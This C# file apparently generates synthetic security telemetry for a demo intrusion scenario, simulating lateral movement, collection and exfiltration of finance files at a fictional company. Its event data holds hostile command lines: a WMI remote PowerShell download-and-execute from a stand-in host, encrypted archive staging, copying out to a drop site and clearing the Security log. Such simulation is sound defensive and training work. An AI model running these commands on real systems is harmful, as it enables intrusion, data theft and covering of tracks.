using Drever.Ingest.Demo.World;

namespace Drever.Ingest.Demo.Intrusion;

/// <summary>Acts six to eight: with the stolen account to the file server, and out with what is there.</summary>
internal sealed class LateralMovement
{
    public const string Archive = @"C:\ProgramData\stage\q3.7z";

    private readonly DeviceActivity _server;
    private readonly DeviceActivity _victim;
    private readonly DemoOutput _output;
    private readonly Company _company;
    private readonly Timeline _time;
    private readonly DemoRandom _random;
    private RunningProcess _shell;

    public LateralMovement(DemoOutput output, Company company, Timeline time, DemoRandom random)
    {
        (_output, _company, _time, _random) = (output, company, time, random);
        (_server, _victim) = (new DeviceActivity(output, company.FileServer), new DeviceActivity(output, company.VictimDevice));
        _shell = RunningProcess.Service(Programs.WmiPrvSE, 6612, @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", time.LateralMovement, Account.NetworkService);
    }

    /// <summary>A few wrong doors, then WMI.</summary>
    public void Spread()
    {
        for (var i = 0; i < 12; i++)
        {
            var at = _time.LateralMovement.AddMinutes(-30).AddSeconds(40 * i);
            var account = _company.People[(i + 3) % _company.People.Count];
            _server.Logon(at, account, "Network", succeeded: false, protocol: "NTLM", from: _company.VictimDevice, failure: "InvalidUserNameOrPassword");
            IdentityRows.Logon(_output, at, account, _company.VictimDevice, _company.FileServer, "Ntlm", "Failed logon", _random, "WrongPassword");
        }

        var loader = new RunningProcess(Programs.Loader, 7788, $"\"{Programs.Loader.Path}\" -k netsvcs", _time.Macro.AddSeconds(37), _company.Victim, null);
        var wmic = _victim.Run(loader, Programs.Wmic, "wmic  /node:tb-file-01 /user:tallbacka\\svc-backup process call create \"powershell.exe -nop -w hidden -c iwr https://cdn.sync-assets.example/b.ps1 -UseBasicParsing | iex\"", _time.LateralMovement);
        _victim.Connect(wmic, _time.LateralMovement.AddSeconds(0.3), _company.FileServer.Name, _company.FileServer.Ip, 135, type: "Private");
        _server.Logon(_time.LateralMovement.AddSeconds(0.6), _company.BackupAccount, "Network", protocol: "NTLM", from: _company.VictimDevice, isLocalAdmin: true);
        IdentityRows.Logon(_output, _time.LateralMovement.AddSeconds(0.6), _company.BackupAccount, _company.VictimDevice, _company.FileServer, "Ntlm", "Credentials validation", _random);
        IdentityRows.Directory(_output, _time.LateralMovement.AddSeconds(1), "Wmi execution", _company.BackupAccount, _company.FileServer, _random)
            .Set("DeviceName", _company.VictimDevice.Name).Set("IPAddress", _company.VictimDevice.Ip).Set("TargetDeviceName", _company.FileServer.Name).Json("AdditionalFields", """{"Method":"Win32_Process.Create"}""");
        _shell = _server.Run(_shell, Programs.PowerShell, "powershell.exe -nop -w hidden -c iwr https://cdn.sync-assets.example/b.ps1 -UseBasicParsing | iex", _time.LateralMovement.AddSeconds(1.2), _company.BackupAccount, isElevated: true);
        _server.Touch(_shell.Parent!, _time.LateralMovement.AddSeconds(1.2), "AsrPsexecWmiChildProcessAudited", _shell, """{"IsAudit":true,"RuleId":"d1e49aac-8f56-4280-b9ba-993a6d77406c"}""");
        _server.Event(_shell, _time.LateralMovement.AddSeconds(1.3), "ProcessCreatedUsingWmiQuery", """{"IsWmiQueryFromRemote":true}""");
        _server.Connect(_shell, _time.LateralMovement.AddSeconds(2), Site.Control);
    }

    /// <summary>The finance share in one archive.</summary>
    public void Collect()
    {
        for (var i = 0; i < 140; i++)
        {
            var name = FormattableString.Invariant($"Q3-{_random.Of(["ledger", "forecast", "payroll", "contracts", "tender"])}-{i:000}.xlsx");
            _server.Event(_shell, _time.Collection.AddSeconds(-200 + i), "SensitiveFileRead", """{"SensitivityLabel":"Confidential"}""").Set("FileName", name).Set("FolderPath", $@"E:\Shares\finance\{name}");
        }

        var zip = _server.Run(_shell, Programs.SevenZip, $"\"{Programs.SevenZip.Path}\" a -t7z -mhe=on -pTb!2026 {Archive} E:\\Shares\\finance\\Q3*", _time.Collection);
        _server.File(zip, _time.Collection.AddMinutes(4), "FileCreated", @"C:\ProgramData\stage", "q3.7z", new DemoProgram("q3.7z", "", "", "", "1", "").Sha256);
        _server.Drop(_shell, _time.Collection.AddMinutes(9), Programs.Exfiltrator, $"https://{Site.Control.Host}/s.bin", Site.Control.Ip);
    }

    /// <summary>Out by a renamed copy tool, then the log is emptied.</summary>
    public void Exfiltrate()
    {
        var copy = _server.Run(_shell, Programs.Exfiltrator, $"{Programs.Exfiltrator.Path} copy {Archive} drop:tb --bwlimit 4M --no-check-certificate", _time.Exfiltration);
        for (var i = 0; i < 40; i++)
            _server.Connect(copy, _time.Exfiltration.AddSeconds(2 + (31 * i)), Site.Drop);
        var wipe = _server.Run(_shell, Programs.Wevtutil, "wevtutil.exe cl Security", _time.Exfiltration.AddMinutes(24));
        _server.Event(wipe, _time.Exfiltration.AddMinutes(24).AddSeconds(0.5), "SecurityLogCleared");
        _server.File(_shell, _time.Exfiltration.AddMinutes(25), "FileDeleted", @"C:\ProgramData\stage", "q3.7z");
    }
}
